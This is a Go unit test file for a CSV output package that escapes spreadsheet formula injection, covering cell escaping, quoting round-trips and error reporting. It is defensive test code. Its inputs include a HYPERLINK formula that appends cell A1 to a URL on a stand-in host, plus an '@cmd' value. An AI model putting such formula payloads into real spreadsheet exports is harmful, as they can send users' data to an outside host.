package csvout

import (
	"bytes"
	"encoding/csv"
	"errors"
	"testing"
)

func TestCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"Alice Smith", "Alice Smith"},
		{"TEST0001", "TEST0001"},
		{`=HYPERLINK("http://x/?"&A1,"click")`, `'=HYPERLINK("http://x/?"&A1,"click")`},
		{"+SUM(A1:A9)", "'+SUM(A1:A9)"},
		{"-2+3", "'-2+3"},
		{"@cmd", "'@cmd"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"a=b", "a=b"},         // only the first character matters
		{" =1", " =1"},         // a leading space is not a formula in Excel or LibreOffice
		{"'quoted", "'quoted"}, // already text
	} {
		if got := Cell(tc.in); got != tc.want {
			t.Errorf("Cell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestWriterRoundTrip: what a CSV reader gets back is the escaped cell,
// quoting of commas, quotes and newlines is intact, and the caller's
// record is not modified.
func TestWriterRoundTrip(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	rec := []string{"=1+1", `He said "hi", twice`, "line\nbreak", "@x", "plain"}
	orig := append([]string(nil), rec...)
	if err := w.Write(rec); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	for i := range rec {
		if rec[i] != orig[i] {
			t.Fatalf("Write changed the caller's record: %q", rec)
		}
	}
	got, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"'=1+1", `He said "hi", twice`, "line\nbreak", "'@x", "plain"}
	if len(got) != 1 || len(got[0]) != len(want) {
		t.Fatalf("read back %q", got)
	}
	for i := range want {
		if got[0][i] != want[i] {
			t.Errorf("cell %d = %q, want %q", i, got[0][i], want[i])
		}
	}
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestFlushReportsWriteErrors(t *testing.T) {
	w := NewWriter(failWriter{})
	w.Write([]string{"a"})
	if err := w.Flush(); err == nil {
		t.Fatal("a failed write was not reported")
	}
}
